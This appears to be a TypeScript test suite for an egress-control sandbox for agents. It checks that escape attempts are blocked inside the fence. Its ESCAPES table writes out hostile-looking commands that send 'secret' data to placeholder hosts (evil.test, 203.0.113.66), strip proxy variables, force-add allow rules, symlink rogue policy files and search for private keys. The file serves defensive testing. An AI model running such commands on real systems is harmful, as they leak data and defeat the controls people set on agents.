/** The cases that are commands in a fence, or loads; and that each case of a gateway's channels is run, or said why not. */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { readFileSync, truncateSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join, resolve } from 'node:path';
import { loadPolicy } from '../../src/config/load.ts';
import { parseHost } from '../../src/names/host.ts';
import { compile } from '../../src/policy/compile.ts';
import { decide } from '../../src/policy/decide.ts';
import { readDocument } from '../../src/policy/document.ts';
import { until } from '../rig/witness.ts';
import { finish, inRig, openWorld, type World } from '../rig/world.ts';
import { Client } from './client.ts';
import { CONVERSATIONS, caseOf, ELSEWHERE, NOT_APPLICABLE, OURS } from './scope.ts';
import { openStand } from './stand.ts';
import { createSubject } from './subject.ts';

const POLICY = 'version: 1\nallow: [allowed.test]\n';
const CLAWCTL = process.env.CLAWCTL_TEST_BINARY ?? resolve(import.meta.dir, '../../clawctl');
const connect = (address: string, port: number) =>
  `python3 -c 'import socket; s = socket.create_connection(("${address}", ${port}), 2); s.sendall(b"secret")'`;

/** Scripts in a fence. `proof`: how the same script shows without one that it would have worked. */
interface Escape {
  script: (world: World) => string;
  proof: 'reaches the sink' | 'prints OUT' | null;
  environment?: (world: World) => Record<string, string>;
}
const ESCAPES: Record<string, Escape> = {
  'SB-001': {
    script: () =>
      'env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY curl -ksm1 https://evil.test/',
    proof: 'reaches the sink',
  },
  'SB-003': { script: () => connect('203.0.113.66', 443), proof: 'reaches the sink' },
  'SB-024': {
    script: () => `${CLAWCTL} egress add evil.test --force; curl -ksm1 https://evil.test/`,
    proof: 'reaches the sink',
  },
  'SB-026': {
    script: () =>
      'mkdir -p "$XDG_CONFIG_HOME/clawctl" ~/.config/clawctl; printf "version: 1\\nallow: [evil.test]\\n" > evil.yaml; ' +
      'for f in "$XDG_CONFIG_HOME" ~/.config; do ln -sf "$PWD/evil.yaml" "$f/clawctl/egress.yaml"; done; sleep 0.6; ' +
      'curl -sm1 http://evil.test/',
    proof: 'reaches the sink',
  },
  'SB-028': {
    script: ({ folder }) =>
      `grep -rqs "PRIVATE KEY" ${folder}/certificates ${folder}/state && echo OUT; true`,
    proof: 'prints OUT',
  },
  'SB-036': {
    script: () => '[ -n "$DBUS_SESSION_BUS_ADDRESS$BROWSER_OF_DESKTOP" ] && echo OUT; true',
    proof: 'prints OUT',
    environment: ({ folder }) => ({ DBUS_SESSION_BUS_ADDRESS: `unix:path=${folder}/bus` }),
  },
  'SB-038': {
    script: () =>
      `python3 -c 'import socket; l = socket.socket(); l.bind(("127.0.0.1", 3128)); l.listen(); ` +
      `c = socket.create_connection(("127.0.0.1", 3128)); c.sendall(b"x")'; curl -sm1 -x http://127.0.0.1:3128 http://evil.test/`,
    proof: null,
  },
  'TL-053': {
    script: () =>
      `python3 -c 'import socket; socket.socket(2, 2).sendto(bytes.fromhex("16feff0000000000000000"), ("203.0.113.66", 4433))'`,
    proof: 'reaches the sink',
  },
  'CF-018': {
    script: () =>
      'printf "version: 1\\nallow: [evil.test]\\n" > p.yaml; CLAWCTL_POLICY=$PWD/p.yaml CLAWCTL_EGRESS_POLICY=$PWD/p.yaml ' +
      'curl -sm1 http://evil.test/',
    proof: 'reaches the sink',
    environment: ({ workspace }) => ({ CLAWCTL_POLICY: join(workspace, 'p.yaml') }),
  },
};

describe.skipIf(!inRig)('in a fence', () => {
  let world: World;
  beforeAll(async () => {
    world = await openWorld();
  });
  afterAll(() => world.close());

  const without = (script: string, environment: Record<string, string>) =>
    finish(
      Bun.spawn(['sh', '-c', script], {
        env: { ...world.environment, XDG_CONFIG_HOME: join(world.workspace, 'config'), ...environment },
        cwd: world.workspace,
        stdio: ['pipe', 'pipe', 'pipe'],
      }),
    );

  for (const [id, { script, proof, environment }] of Object.entries(ESCAPES))
    test(`${id} ${caseOf(id).title}`, async () => {
      const more = environment?.(world) ?? {};
      if (proof !== null) {
        world.sink.arrivals.length = 0;
        const done = await without(script(world), more);
        if (proof === 'prints OUT') expect(done.stdout).toContain('OUT');
        else expect(await until(() => world.sink.arrivals.length > 0)).toBe(true);
        // Or what it sent would pass for the fenced one's.
        await world.sink.idle();
      }
      world.sink.arrivals.length = 0;
      world.nameServer.questions.length = 0;
      const done = await world.fenced(POLICY, ['sh', '-c', script(world)], { environment: more });
      expect(done.stdout).not.toContain('OUT');
      expect(world.sink.arrivals).toEqual([]);
      expect(world.nameServer.questions).toEqual([]);
      const control = await world.fenced(POLICY, ['curl', '-sS', '-m', '5', 'http://allowed.test/hello']);
      expect(control.stdout).toStartWith('hello');
    }, 30_000);

  test('SB-039 whoever listens outside is out of reach, another fence and its proxy too', async () => {
    const visits: string[] = [];
    const other = createServer((socket) => void visits.push(String(socket.remotePort))).listen(
      3128,
      '127.0.0.1',
    );
    const target = `${connect('127.0.0.1', 3128)}; curl -sm1 -x http://127.0.0.1:3128 http://other.test/`;
    await without(target, {});
    expect(visits.length).toBeGreaterThan(0);
    visits.length = 0;
    await world.fenced(POLICY, ['sh', '-c', target]);
    other.close();
    expect(visits).toEqual([]);
  });

  test('CF-016 a policy file of 200 MB is refused before it is read', () => {
    const file = join(world.folder, 'large.yaml');
    writeFileSync(file, POLICY);
    truncateSync(file, 200_000_000);
    const before = process.memoryUsage.rss();
    const started = performance.now();
    expect(() =>
      loadPolicy({ paths: { policy: file, machinePolicy: join(world.folder, 'none') } }),
    ).toThrow();
    expect(performance.now() - started).toBeLessThan(1_000);
    expect(process.memoryUsage.rss() - before).toBeLessThan(64 << 20);
  });
});

describe('a load', () => {
  test('RS-022 of 110,000 rules is decided in microseconds', () => {
    const rules = [
      ...Array.from({ length: 100_000 }, (_, i) => `  - h${i}.example.org\n`),
      ...Array.from({ length: 10_000 }, (_, i) => `  - "*.w${i}.example.org"\n`),
    ];
    const result = readDocument(`version: 1\nallow:\n${rules.join('')}`, 'large.yaml');
    if (!result.ok) throw new Error('the policy does not load');
    const policy = compile([result.document]);
    const took: number[] = [];
    for (let i = 0; i < 20_000; i++) {
      const host = parseHost(`a.b${i % 7}.w${i % 10_000}.example.${i % 2 === 0 ? 'org' : 'net'}`)!;
      const started = performance.now();
      decide(policy, { agent: 'bot', host, port: 443 }, { now: 0, killed: false, grants: [] });
      took.push(performance.now() - started);
    }
    expect(took.sort((a, b) => a - b)[19_800]!).toBeLessThan(0.05);
  });

  test.skipIf(!inRig)('DNS-037 of 10,000 questions that nobody reads the answers to is bounded', async () => {
    const stand = await openStand();
    const subject = await createSubject();
    const question = Buffer.from((caseOf('DNS-037').input.gen as { query_hex: string }).query_hex, 'hex');
    const framed = Buffer.concat([Buffer.of(0, question.length), question]);
    const before = process.memoryUsage.rss();
    const client = new Client(subject.dnsPort);
    client.say(Buffer.concat(Array<Buffer>(10_000).fill(framed)));
    await client.until((heard) => heard.length >= 44 * 10_000, 1_000);
    expect(process.memoryUsage.rss() - before).toBeLessThan(64 << 20);
    client.leave();
    await subject.close();
    stand.close();
  });
});

test('every case is run here, proved elsewhere, or cannot be asked, with the reason', () => {
  const run = new Set([...CONVERSATIONS.map(({ id }) => id), ...Object.keys(ESCAPES)]);
  const unknown = OURS.filter(
    ({ id }) => !run.has(id) && ELSEWHERE[id] === undefined && NOT_APPLICABLE[id] === undefined,
  );
  expect(unknown.map(({ id, title }) => `${id} ${title}`)).toEqual([]);
  for (const [id, [file, title]] of Object.entries(ELSEWHERE)) {
    const text = readFileSync(join(import.meta.dir, '..', file), 'utf8');
    expect([id, file, text.includes(title)]).toEqual([id, file, true]);
  }
  const byReason = Map.groupBy(Object.entries(NOT_APPLICABLE), ([, why]) => why);
  console.log(`${OURS.length} cases: ${run.size} run here, ${Object.keys(ELSEWHERE).length} elsewhere`);
  for (const [why, ids] of byReason)
    console.log(`not applicable: ${ids.map(([id]) => id).join(' ')}: ${why}`);
});
